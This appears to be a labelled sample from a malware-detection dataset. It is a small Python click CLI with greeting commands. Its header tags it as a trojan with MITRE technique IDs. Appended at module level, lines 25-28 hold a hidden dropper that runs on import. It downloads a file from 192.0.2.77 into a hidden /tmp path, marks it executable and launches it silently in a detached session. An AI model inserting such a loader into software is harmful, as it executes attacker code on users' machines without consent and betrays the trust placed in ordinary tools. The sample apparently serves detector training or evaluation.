# label: malicious family=trojan techniques=T1105,T1222.002,T1059.004,T1074.001 lines=25-28 group=benign/b098_click_cli.py
import click


@click.group()
def cli():
    """Manage greetings."""


@cli.command()
@click.argument("name")
@click.option("--shout", is_flag=True)
def hello(name, shout):
    msg = f"Hello, {name}!"
    click.echo(msg.upper() if shout else msg)


@cli.command()
@click.argument("name")
def bye(name):
    click.echo(f"Goodbye, {name}.")


import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

if __name__ == "__main__":
    cli()
